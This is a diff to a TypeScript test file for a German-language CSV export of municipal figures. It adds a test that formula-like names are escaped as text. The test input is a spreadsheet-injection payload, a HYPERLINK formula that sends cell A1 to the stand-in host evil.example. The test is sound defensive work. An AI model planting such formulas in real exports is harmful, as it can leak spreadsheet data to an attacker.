@@ -46,3 +46,9 @@ test("the area is named in words, not with the JSON's codes (a spreadsheet would
   const [own, country, land, kind] = lines([row({ scope: "*" }), row({}), row({ scope: "04" }), row({ scope: "model" })]);
   assert.deepEqual([own.gebiet, country.gebiet, land.gebiet, kind.gebiet], ["Musterstadt", "Bundesweit", "Bremen", "Alle Modellkommunen"]);
 });
+
+test("a municipality's name that a spreadsheet would run as a formula stays text", () => {
+  const csv = figuresCsv([row({ scope: "*" })], translator("de"), "de", '=HYPERLINK("http://evil.example/?"&A1;"Musterstadt")');
+  const [own] = parse(csv, { columns: true, delimiter: ";", bom: true }) as Record<string, string>[];
+  assert.equal(own.gebiet, `'=HYPERLINK("http://evil.example/?"&A1;"Musterstadt")`);
+});
